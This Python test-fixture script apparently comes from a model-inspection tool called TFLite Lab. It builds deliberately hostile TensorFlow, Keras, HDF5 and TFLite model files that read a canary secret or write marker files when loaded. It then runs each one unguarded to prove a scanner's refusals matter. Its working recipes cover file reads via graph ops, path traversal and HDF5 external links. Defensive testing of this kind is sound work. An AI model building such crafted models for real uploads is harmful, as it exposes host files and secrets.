"""Builds the graph-policy hostile corpus in one process (run as a script by the test fixture).

argv: corpus dir, canary dir, marker dir, armed dir. Every model aims at the canary (a file with a
random secret, a foreign checkpoint holding it) or at the marker dir. After building, each model is
run by plain TensorFlow/Keras/h5py without TFLite Lab's checks, and the JSON printed last says
whether it really read the secret or wrote its marker ("armed"): the refusals are then proven to matter.
"""
import json
import os
import shutil
import sys
from pathlib import Path

out, canary, markers, armed = map(Path, sys.argv[1:5])
secret = (canary / "secret.txt").read_text()
os.environ.setdefault("TF_CPP_MIN_LOG_LEVEL", "3")
import numpy as np  # noqa: E402
import tensorflow as tf  # noqa: E402

SECRET_FILE = str(canary / "secret.txt")
CKPT = str(canary / "foreign" / "ckpt")

# A checkpoint "of another user's model" holding the secret.
ckpt_var = tf.Variable(secret)
written = tf.train.Checkpoint(v=ckpt_var).write(CKPT)

spec = [tf.TensorSpec([None, 3], tf.float32, name="x")]


def n(t):   # a number that depends on what was read
    return tf.cast(tf.strings.length(t), tf.float32)


def serve_table(x):
    h = tf.raw_ops.HashTableV2(key_dtype=tf.string, value_dtype=tf.int64, shared_name="", container="")
    init = tf.raw_ops.InitializeTableFromTextFileV2(table_handle=h, filename=SECRET_FILE, key_index=-2, value_index=-1)
    with tf.control_dependencies([init]):
        keys, _ = tf.raw_ops.LookupTableExportV2(table_handle=h, Tkeys=tf.string, Tvalues=tf.int64)
    return {"y": x + tf.cast(tf.size(keys), tf.float32), "leak": tf.strings.reduce_join(keys)}


def serve_restore(x):
    v = tf.raw_ops.RestoreV2(prefix=CKPT, tensor_names=["v/.ATTRIBUTES/VARIABLE_VALUE"], shape_and_slices=[""],
                             dtypes=[tf.string])[0]
    return {"y": x * n(v), "leak": v}


def serve_immutable(x):
    c = tf.raw_ops.ImmutableConst(dtype=tf.uint8, shape=[len(secret)], memory_region_name=SECRET_FILE)
    return {"y": x + tf.cast(tf.reduce_sum(tf.cast(c, tf.int32)), tf.float32),
            "leak": tf.strings.unicode_encode(tf.cast(c, tf.int32), "UTF-8")}


def serve_print(x):
    tf.print("values", x, output_stream="file://" + str(markers / "print.marker"))
    return {"y": x + 1.0}


def serve_summary(x):
    w = tf.raw_ops.SummaryWriter(shared_name="", container="")
    c = tf.raw_ops.CreateSummaryFileWriter(writer=w, logdir=str(markers / "summary"), max_queue=1,
                                           flush_millis=1, filename_suffix=".v2")
    with tf.control_dependencies([c]):
        s = tf.raw_ops.WriteScalarSummary(writer=w, step=tf.constant(0, tf.int64), tag="s", value=tf.reduce_sum(x))
    with tf.control_dependencies([s]):
        f = tf.raw_ops.FlushSummaryWriter(writer=w)
    with tf.control_dependencies([f]):
        return {"y": x + 1.0}


def serve_while(x):
    def body(i, acc):
        return i + 1, acc + n(tf.io.read_file(SECRET_FILE))
    _, total = tf.while_loop(lambda i, acc: i < tf.shape(x)[0], body, (0, tf.zeros([])))
    return {"y": x + total}


def serve_if(x):
    def write():
        tf.io.write_file(str(markers / "if.marker"), tf.strings.as_string(tf.reduce_sum(x)))
        return x + 1.0
    return {"y": tf.cond(tf.reduce_sum(x) > -1e9, write, lambda: x - 1.0)}


@tf.function
def inner(x):
    return x * n(tf.io.read_file(SECRET_FILE))


@tf.function
def middle(x):
    return inner(x) + 1.0


def serve_nested(x):
    return {"y": middle(x)}


def serve_case(x):
    idx = tf.cast(tf.reduce_sum(x) > -1e9, tf.int32)
    return {"y": tf.switch_case(idx, [lambda: x, lambda: x * n(tf.io.read_file(SECRET_FILE))])}


def serve_dataset(x):
    ds = tf.data.TextLineDataset(SECRET_FILE)
    return {"y": x + ds.reduce(0.0, lambda acc, line: acc + n(line)), "leak": ds.reduce("", lambda a, b: a + b)}


def serve_svd(x):   # no file access: refused only for having no builtin kernel
    return {"s": tf.linalg.svd(tf.reshape(tf.tile(x, [1, 3]), [-1, 3, 3]), compute_uv=False)}


SAVED_MODELS = {"sm_table_file": serve_table, "sm_restore_foreign": serve_restore, "sm_immutable_const": serve_immutable,
                "sm_print_file": serve_print, "sm_summary_writer": serve_summary, "sm_while_readfile": serve_while,
                "sm_if_writefile": serve_if, "sm_nested_call_readfile": serve_nested, "sm_case_readfile": serve_case,
                "sm_dataset_reader": serve_dataset, "sm_svd": serve_svd}
# Files each model writes when it runs (under the marker dir).
WRITES = {"sm_print_file": "print.marker", "sm_summary_writer": "summary", "sm_if_writefile": "if.marker"}

result = {}
for name, fn in SAVED_MODELS.items():
    m = tf.Module()
    m.serve = tf.function(fn, input_signature=spec)
    tf.saved_model.save(m, str(out / name), signatures={"serving_default": m.serve})
    # Armed: load it plainly (a copy, so its writes go to the armed dir) and call it.
    shutil.copytree(out / name, armed / name)
    loaded = tf.saved_model.load(str(armed / name))
    try:
        res = loaded.signatures["serving_default"](x=tf.ones([2, 3]))
        leak = b"".join(np.asarray(res["leak"]).ravel().tolist()) if "leak" in res else b""
        y = float(np.asarray(res["y"] if "y" in res else res["s"]).sum())
        result[name] = {"ran": True, "y": y, "read_secret": secret.encode() in leak}
    except Exception as e:  # noqa: BLE001 - recorded for the test to show
        result[name] = {"ran": False, "error": str(e).splitlines()[0][:200]}
    if name in WRITES:
        result[name]["wrote_marker"] = (markers / WRITES[name]).exists()
        p = markers / WRITES[name]
        shutil.rmtree(p) if p.is_dir() else p.unlink(missing_ok=True)

# ---- Keras files: layers that read host files when deserialized ----
import zipfile  # noqa: E402

import h5py  # noqa: E402
import keras  # noqa: E402

reader = tf.Module()   # the SavedModel a TFSMLayer would load: it reads the secret
reader.serve = tf.function(lambda x: {"y": x * n(tf.io.read_file(SECRET_FILE))}, input_signature=spec)
tf.saved_model.save(reader, str(canary / "reader_sm"), signatures={"serving_default": reader.serve})
x = keras.Input((3,), name="x")
keras.Model(x, keras.layers.TFSMLayer(str(canary / "reader_sm"), call_endpoint="serving_default", name="tfsm")(x)).save(
    out / "k_tfsm.keras")


def vocabulary_model(layer_cls, name, vocabulary):
    """A .keras whose lookup layer's stored vocabulary is ``vocabulary`` (a path), as a crafted upload would."""
    t = keras.Input((1,), dtype="string", name="t")
    keras.Model(t, layer_cls(vocabulary=["a", "b"], name="lookup")(t)).save(out / f"{name}.tmp.keras")
    with zipfile.ZipFile(out / f"{name}.tmp.keras") as zin, zipfile.ZipFile(out / f"{name}.keras", "w") as zout:
        for item in zin.namelist():
            data = zin.read(item)
            if item == "config.json":
                cfg = json.loads(data)
                for layer in cfg["config"]["layers"]:
                    if layer["class_name"] == layer_cls.__name__:
                        layer["config"]["vocabulary"] = vocabulary
                data = json.dumps(cfg).encode()
            if not item.startswith("assets/"):
                zout.writestr(item, data)
    (out / f"{name}.tmp.keras").unlink()


vocabulary_model(keras.layers.StringLookup, "k_stringlookup_path", SECRET_FILE)
vocabulary_model(keras.layers.TextVectorization, "k_textvec_url", "file://" + SECRET_FILE)
vocabulary_model(keras.layers.StringLookup, "k_stringlookup_dotdot", "../canary/secret.txt")

for name in ("k_tfsm", "k_stringlookup_path", "k_textvec_url", "k_stringlookup_dotdot"):
    os.chdir(out)   # the '..' path resolves from the models folder to the canary
    try:
        m = keras.models.load_model(out / f"{name}.keras", safe_mode=False, compile=False)
        if name == "k_tfsm":
            y = np.asarray(m(np.ones((2, 3), "float32"))["y"])
            result[name] = {"ran": True, "y": float(y.sum())}
        else:
            vocab = m.get_layer("lookup").get_vocabulary()
            result[name] = {"ran": True, "read_secret": any(secret in str(v) for v in vocab)}
    except Exception as e:  # noqa: BLE001
        result[name] = {"ran": False, "error": str(e).splitlines()[0][:200]}
    os.chdir(canary)

# ---- HDF5 files whose weights live in another host file ----
with h5py.File(canary / "secret.h5", "w") as f:
    f["secret"] = np.frombuffer(secret.encode(), np.uint8)
keras.utils.set_random_seed(0)
dense = keras.Sequential([keras.Input((3,), name="x"), keras.layers.Dense(2, name="dense")])


def weight_datasets(f):
    names = []
    f.visititems(lambda k, v: names.append(k) if isinstance(v, h5py.Dataset) else None)
    return names


def hostile_h5(name, replace):
    dense.save(out / f"{name}.h5")
    with h5py.File(out / f"{name}.h5", "r+") as f:
        target = [d for d in weight_datasets(f) if d.endswith("kernel") or "kernel" in d][0]
        del f[target]
        replace(f, target)
    with h5py.File(out / f"{name}.h5", "r") as f:   # armed: reading the weight reads the canary
        result[name] = {"ran": True, "read_secret": secret.encode() in f[target][()].tobytes()}


def external_link(f, target):
    f[target] = h5py.ExternalLink(str(canary / "secret.h5"), "/secret")


def virtual(f, target):
    layout = h5py.VirtualLayout(shape=(len(secret),), dtype=np.uint8)
    layout[:] = h5py.VirtualSource(str(canary / "secret.h5"), "secret", shape=(len(secret),))
    f.create_virtual_dataset(target, layout)


def external_storage(f, target):
    f.create_dataset(target, shape=(len(secret),), dtype=np.uint8, external=[(SECRET_FILE, 0, len(secret))])


hostile_h5("h5_external_link", external_link)
hostile_h5("h5_virtual_dataset", virtual)
hostile_h5("h5_external_storage", external_storage)
# The same external link inside a .keras archive's model.weights.h5.
dense.save(out / "k_weights_link.keras")
with zipfile.ZipFile(out / "k_weights_link.keras") as zin:
    members = {i: zin.read(i) for i in zin.namelist()}
(out / "w.h5").write_bytes(members["model.weights.h5"])
with h5py.File(out / "w.h5", "r+") as f:
    target = [d for d in weight_datasets(f) if d.startswith("layers/dense")][0]
    del f[target]
    external_link(f, target)
members["model.weights.h5"] = (out / "w.h5").read_bytes()
(out / "w.h5").unlink()
with zipfile.ZipFile(out / "k_weights_link.keras", "w") as zout:
    for i, data in members.items():
        zout.writestr(i, data)
(armed / "model.weights.h5").write_bytes(members["model.weights.h5"])   # as Keras unpacks it
with h5py.File(armed / "model.weights.h5", "r") as f:
    result["k_weights_link"] = {"ran": True, "read_secret": secret.encode() in f[target][()].tobytes()}

# ---- .tflite files with Flex or custom ops ----
reader_fn = reader.serve.get_concrete_function()
conv = tf.lite.TFLiteConverter.from_concrete_functions([reader_fn], reader)
conv.target_spec.supported_ops = [tf.lite.OpsSet.TFLITE_BUILTINS, tf.lite.OpsSet.SELECT_TF_OPS]
(out / "t_flex_readfile.tflite").write_bytes(conv.convert())
conv = tf.lite.TFLiteConverter.from_concrete_functions([reader_fn], reader)
conv.allow_custom_ops = True
(out / "t_custom_readfile.tflite").write_bytes(conv.convert())
try:   # an interpreter with the Flex delegate would run FlexReadFile; this TensorFlow build has none
    interp = tf.lite.Interpreter(model_path=str(out / "t_flex_readfile.tflite"))
    runner = interp.get_signature_runner()
    y = runner(x=np.ones((2, 3), "float32"))["y"]
    result["t_flex_readfile"] = {"ran": True, "y": float(np.asarray(y).sum())}
except Exception as e:  # noqa: BLE001
    result["t_flex_readfile"] = {"ran": False, "error": str(e).splitlines()[0][:200]}

result["secret_len"] = len(secret)
print(json.dumps(result))
